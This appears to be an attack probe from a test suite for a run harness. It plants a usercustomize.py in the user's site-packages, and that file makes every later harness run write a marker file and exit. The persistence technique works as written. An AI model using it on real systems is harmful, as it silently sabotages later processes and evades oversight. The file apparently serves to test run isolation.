# ruff: noqa
# Plants usercustomize.py in the user site-packages of whoever runs it: every later Python of
# that user runs it first. The planted code ends every later candidate rank at once.
PLANT = '''
import os
def _tw_planted():
    try:
        with open("/proc/self/cmdline", "rb") as f:
            argv = f.read().split(b"\\0")
    except OSError:
        return
    if b"harness.bootstrap" not in argv or "/.trainwreck/cache/" in os.environ.get("TRAINWRECK_RUN_DIR", ""):
        return
    try:
        open("ATTACK-SUCCEEDED-usercustomize-ran-in-a-later-run", "a").close()
    except OSError:
        pass
    os._exit(7)
_tw_planted()
'''


def _attack_run(main):
    if _rank() == 0:
        import site

        try:
            d = _Path(site.getusersitepackages())
            d.mkdir(parents=True, exist_ok=True)
            (d / "usercustomize.py").write_text(PLANT)
        except OSError as e:
            print(f"planting failed: {e!r}", file=_sys.stderr)
    main()
